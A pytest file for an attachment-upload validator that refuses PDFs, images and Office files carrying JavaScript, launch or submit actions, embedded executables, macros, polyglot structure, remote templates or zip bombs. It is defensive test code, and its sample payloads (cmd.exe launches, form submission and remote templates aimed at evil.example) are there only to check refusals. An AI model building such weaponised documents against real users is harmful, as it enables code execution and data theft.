"""Attachments read by maintained parsers (shared/rules/file_content.py): pypdf finds JavaScript, actions and embedded
files in every object of a PDF, oletools finds macros by content and OLE objects in Office files, filetype names the
type, and a file that is two types at once is refused. Every sample is a real file, built by pypdf, zipfile or a
compound-file writer (tests/samples.py)."""

from __future__ import annotations

import io
import zipfile
from datetime import date

import pytest
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from shared.contracts.errors import ValidationFailed
from shared.rules import attachments as att
from shared.rules import file_content
from shared.rules.documents import OfficialDocument, to_xlsx
from tests.samples import (
    action,
    link_annotation,
    ole_file,
    pdf_with,
    raw_pdf,
    raw_pdf_page,
    relationships,
    sample_docx,
    sample_pdf,
    sample_png,
    vba_project,
)

RULES = att.rules_on(date(2026, 3, 2), att.RULES_FILE)
FIELD = "attachments.bao_cao_thanh_tich"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64 + b"\xff\xd9"


def refusal(filename: str, data: bytes) -> ValidationFailed:
    with pytest.raises(ValidationFailed) as refused:
        att.check_file(filename, data, RULES, field=FIELD)
    assert [f.field for f in refused.value.fields] == [FIELD]
    assert refused.value.status == 422
    return refused.value


def names_javascript(writer: PdfWriter) -> None:
    """Document-level JavaScript: the catalogue's /Names /JavaScript tree."""
    script = writer._add_object(action("JavaScript", JS=TextStringObject("app.alert(1)")))
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("init"), script])})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})


def xlsx() -> bytes:
    doc = OfficialDocument(
        kind="DANH SÁCH", subject="Danh sách đề nghị", issuer="CĐCS", number_text="1", place="Hà Nội", issued_on=date(2026, 1, 5)
    )
    return to_xlsx(doc)


# Files that pass


@pytest.mark.parametrize(
    ("filename", "data", "kind"),
    [
        ("to-trinh.pdf", sample_pdf(), "pdf"),  # fpdf2's /OpenAction is a destination (where to open), not an action
        ("to-trinh.pdf", raw_pdf_page(b"/OpenAction [3 0 R /Fit]"), "pdf"),
        (
            "lien-ket.pdf",
            pdf_with(lambda w: w.add_annotation(0, link_annotation(action("URI", URI=TextStringObject("https://congdoan.vn"))))),
            "pdf",
        ),
        ("chi-doc.pdf", pdf_with(lambda w: w.encrypt(user_password="", owner_password="chu-so-huu", algorithm="AES-128")), "pdf"),
        ("anh.png", sample_png(), "png"),
        ("anh.jpg", JPEG, "jpeg"),
        ("bao-cao.docx", sample_docx(), "docx"),
        ("bao-cao.docx", sample_docx(document_rels=relationships(("hyperlink", "https://congdoan.vn", True))), "docx"),
        ("danh-sach.xlsx", xlsx(), "xlsx"),
    ],
)
def test_clean_files_are_taken(filename: str, data: bytes, kind: str) -> None:
    assert att.check_file(filename, data, RULES).kind == kind


def test_a_chart_workbook_embedded_in_a_report_is_read_and_taken() -> None:
    """Word keeps a chart's data as an .xlsx part: an Office package inside, read like the file itself."""
    assert att.check_file("bao-cao.docx", sample_docx(parts={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx()}), RULES)


# PDF: active content and embedded files, found by pypdf in every object


@pytest.mark.parametrize(
    ("data", "finding"),
    [
        (pdf_with(lambda w: w.add_open_action(JavaScript("app.alert('x');"))), "JavaScript"),
        (pdf_with(names_javascript), "JavaScript"),
        (
            pdf_with(
                lambda w: w.root_object.__setitem__(NameObject("/OpenAction"), action("JavaScript", JS=TextStringObject("x")))
            ),
            "/OpenAction /JavaScript",
        ),
        (pdf_with(lambda w: w.add_annotation(0, link_annotation(action("Launch", F=TextStringObject("calc.exe"))))), "/Launch"),
        (
            pdf_with(
                lambda w: w.pages[0].__setitem__(
                    NameObject("/AA"), DictionaryObject({NameObject("/O"): action("GoTo", D=ArrayObject([NumberObject(0)]))})
                )
            ),
            "/AA",
        ),
        (raw_pdf_page(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "/OpenAction /Launch"),
        (raw_pdf_page(b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"), "/OpenAction /SubmitForm"),
        (raw_pdf_page(b"/AcroForm << /Fields [] /XFA 4 0 R >>"), "XFA"),
        # names written with #-escapes are still the same names to a parser (a byte grep would miss them)
        (raw_pdf_page(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"), "/OpenAction /JavaScript"),
    ],
)
def test_a_pdf_with_javascript_or_actions_is_refused_as_active_content(data: bytes, finding: str) -> None:
    refused = refusal("to-trinh.pdf", data)
    assert refused.code == "attachment_active_content"
    assert "“to-trinh.pdf”" in refused.title
    assert "nội dung tự thực thi" in refused.title
    assert finding in refused.title


def test_active_content_in_an_object_nothing_references_is_still_found() -> None:
    """Every object in the cross-reference table is read, not only those reachable from the catalogue."""
    orphan = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        b"<< /S /JavaScript /JS (app.launchURL('https://evil.example')) >>",
    )
    assert refusal("to-trinh.pdf", orphan).code == "attachment_active_content"


def test_javascript_in_a_pdf_that_opens_without_a_password_is_found_after_decryption() -> None:
    def script_then_owner_password(writer: PdfWriter) -> None:
        names_javascript(writer)
        writer.encrypt(user_password="", owner_password="chu-so-huu", algorithm="AES-128")

    data = pdf_with(script_then_owner_password)
    assert b"app.alert" not in data  # the script's text is encrypted: only a decrypting parser sees it
    assert refusal("to-trinh.pdf", data).code == "attachment_active_content"


@pytest.mark.parametrize(
    "data",
    [
        pdf_with(lambda w: w.add_attachment("setup.exe", b"MZ" + b"\x00" * 200)),
        raw_pdf_page(b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>] >> >>"),
        pdf_with(
            lambda w: w.add_annotation(
                0,
                DictionaryObject(
                    {
                        NameObject("/Type"): NameObject("/Annot"),
                        NameObject("/Subtype"): NameObject("/FileAttachment"),
                        NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(9), NumberObject(9)]),
                    }
                ),
            )
        ),
    ],
)
def test_a_pdf_with_embedded_files_is_refused(data: bytes) -> None:
    refused = refusal("bao-cao.pdf", data)
    assert refused.code == "attachment_embedded_file"
    assert "nhúng" in refused.title


def test_a_pdf_that_needs_a_password_to_open_cannot_be_inspected_and_is_refused() -> None:
    data = pdf_with(lambda w: w.encrypt(user_password="bi-mat", owner_password="chu", algorithm="AES-128"))
    refused = refusal("to-trinh.pdf", data)
    assert refused.code == "attachment_encrypted"
    assert "mật khẩu" in refused.title


@pytest.mark.parametrize(
    "data",
    [
        sample_pdf()[:20_000],  # cut short: no %%EOF
        b"%PDF-1.7\n" + b"garbage " * 200 + b"\n%%EOF\n",
        raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"),  # no page at all
    ],
)
def test_a_damaged_pdf_is_refused_as_corrupt(data: bytes) -> None:
    refused = refusal("to-trinh.pdf", data)
    assert refused.code == "attachment_corrupt"
    assert "bị hỏng" in refused.title


def test_a_pdf_with_too_many_objects_is_refused_quickly(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(file_content, "MAX_PDF_OBJECTS", 1_000)
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"] + [b"<< /A 1 >>"] * 1_000
    assert refusal("to-trinh.pdf", raw_pdf(*objects)).code == "attachment_corrupt"


def test_the_walk_stops_at_its_deadline(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(file_content, "MAX_INSPECTION_SECONDS", -1.0)
    with pytest.raises(file_content.Refused) as refused:
        file_content.inspect(sample_pdf(), "pdf")
    assert (refused.value.reason, refused.value.finding) == ("corrupt", "too complex to inspect in time")


# Polyglots: one file, two types


@pytest.mark.parametrize(
    ("filename", "data", "finding"),
    [
        ("to-trinh.pdf", sample_pdf() + sample_docx(), "ZIP"),  # a PDF that is also a ZIP/JAR
        ("to-trinh.pdf", sample_pdf() + sample_docx() + b"\n%%EOF\n", "ZIP"),  # …even with an %%EOF after the zip
        ("to-trinh.pdf", sample_pdf() + b"MZ\x90\x00" + b"\x00" * 200, "data after the PDF's end"),  # a program appended
        ("to-trinh.pdf", sample_pdf()[:9] + b"%<html><script>alert(1)</script>\n" + sample_pdf()[9:], "HTML"),
        ("anh.png", sample_png() + sample_docx(), "ZIP"),
        ("anh.png", sample_png() + b"PK\x01\x02 payload", "data after the PNG image"),
        ("anh.jpg", JPEG + sample_docx(), "ZIP"),
        ("anh.jpg", JPEG[:20] + b"%PDF-1.7 " + JPEG[20:], "PDF"),  # a PDF reader looks for %PDF- in the first KB
        ("bao-cao.docx", sample_docx(parts={"%PDF-1.7.txt": b"%PDF-1.7"}), "PDF"),
    ],
)
def test_a_file_that_is_two_types_at_once_is_refused(filename: str, data: bytes, finding: str) -> None:
    refused = refusal(filename, data)
    assert refused.code == "attachment_polyglot"
    assert finding in refused.title


def test_an_html_page_with_a_pdf_header_inside_is_not_a_pdf() -> None:
    """The issue's polyglot: '%PDF-' somewhere in the first KB used to pass as a PDF; filetype wants it first."""
    page = b"<html><body><script>fetch('/api/v1/nominations')</script>%PDF-1.7</body></html>" + b" " * 100
    assert att.sniff(page) is None
    assert refusal("to-trinh.pdf", page).code == "attachment_type_not_allowed"


def test_a_program_named_like_a_pdf_is_refused_as_a_program() -> None:
    refused = refusal("to-trinh.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 300)
    assert refused.code == "attachment_executable"
    assert refused.title == "Tệp “to-trinh.pdf” là chương trình hoặc có macro: không được đính kèm"


# Office: macros by content (olevba), OLE objects, remote templates, encryption


def test_the_vba_project_sample_is_what_olevba_calls_macros() -> None:
    """The compound file the tests build is read by olevba as Office's own vbaProject.bin."""
    from oletools import olevba  # here: `file_content` imports it first, with oletools' deprecation warnings silenced

    parser = olevba.VBA_Parser("vbaProject.bin", data=vba_project())
    assert parser.detect_vba_macros() is True
    assert olevba.VBA_Parser("x.bin", data=ole_file({"WordDocument": b"\x00" * 10})).detect_vba_macros() is False


@pytest.mark.parametrize(
    "data",
    [
        sample_docx(macros=True),
        sample_docx(macros=True, macro_part="word/media/image1.png"),  # renamed: found by content, not by part name
        sample_docx(macros=True, macro_part="customXml/item9.xml"),
        sample_docx(macro_enabled_type=True),  # declared a .docm
        sample_docx(parts={"word/embeddings/Workbook.xlsx": sample_docx(macro_enabled_type=True)}),
    ],
)
def test_an_office_file_with_macros_is_refused_as_a_program(data: bytes) -> None:
    assert refusal("bao-cao.docx", data).code == "attachment_executable"


def test_an_old_word_file_with_macros_says_macros_not_only_wrong_type() -> None:
    word = {"WordDocument": b"\xec\xa5\xc1\x00" + b"\x00" * 100}
    project = {"Macros/PROJECT": b"x", "Macros/VBA/_VBA_PROJECT": b"\xcc\x61", "Macros/VBA/dir": b"x"}
    assert refusal("bao-cao.doc", ole_file(word | project)).code == "attachment_executable"
    # no project structure at all, but compressed VBA source in a stream: olevba reads every stream's content
    assert refusal("bao-cao.doc", ole_file(word | {"Data": b"\x01\x00\x00Attribut\x00e VB_Name"})).code == "attachment_executable"
    assert refusal("bao-cao.doc", ole_file(word)).code == "attachment_type_not_allowed"


def test_an_embedded_ole_object_is_refused() -> None:
    packaged = ole_file({"\x01Ole10Native": b"\x00\x00\x00\x00setup.exe\x00MZ" + b"\x00" * 64})
    refused = refusal("bao-cao.docx", sample_docx(parts={"word/embeddings/oleObject1.bin": packaged}))
    assert refused.code == "attachment_embedded_file"
    assert "oleObject1.bin" in refused.title


@pytest.mark.parametrize(
    "relation",
    [
        ("attachedTemplate", "https://evil.example/template.dotm"),  # a remote template (and its macros) loaded on open
        ("oleObject", "file://server/share/x.xls"),
        ("subDocument", "https://evil.example/part.docx"),
        ("frame", "https://evil.example/frame.html"),
    ],
)
def test_a_document_that_loads_content_from_outside_is_refused(relation: tuple[str, str]) -> None:
    kind, target = relation
    refused = refusal("bao-cao.docx", sample_docx(document_rels=relationships((kind, target, True))))
    assert refused.code == "attachment_active_content"
    assert target in refused.title


def test_an_encrypted_office_file_is_refused_as_encrypted() -> None:
    encrypted = ole_file({"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00", "EncryptedPackage": b"\x00" * 64})
    refused = refusal("bao-cao.docx", encrypted)
    assert refused.code == "attachment_encrypted"


def test_a_zip_bomb_disguised_as_a_document_is_refused_before_it_is_inflated(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(file_content, "MAX_ZIP_UNPACKED_BYTES", 1024 * 1024)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", zipfile.ZipFile(io.BytesIO(sample_docx())).read("[Content_Types].xml"))
        z.writestr("_rels/.rels", zipfile.ZipFile(io.BytesIO(sample_docx())).read("_rels/.rels"))
        z.writestr("word/document.xml", b"<w:document/>" + b" " * (2 * 1024 * 1024))
    assert refusal("bao-cao.docx", out.getvalue()).code == "attachment_corrupt"


def test_a_short_ole_header_is_never_handed_to_olefile_as_a_path() -> None:
    """olefile opens bytes shorter than an OLE header as a file *name*: such content is only 'not a type we take'."""
    assert att.sniff(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1/etc/passwd") is None
    assert refusal("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1/etc/passwd").code == "attachment_type_not_allowed"


def test_a_bomb_in_the_parts_the_type_is_read_from_is_not_inflated(monkeypatch: pytest.MonkeyPatch) -> None:
    """ftguess reads [Content_Types].xml and the relationships whole: larger than sane, the package is not read at all."""
    monkeypatch.setattr(file_content, "_MAX_RELS_BYTES", 1000)
    padded = sample_docx(parts={"word/_rels/document.xml.rels": (relationships() + " " * 2000).encode()})
    assert att.sniff(sample_docx()) == "docx"
    assert att.sniff(padded) is None
    assert refusal("bao-cao.docx", padded).code == "attachment_type_not_allowed"
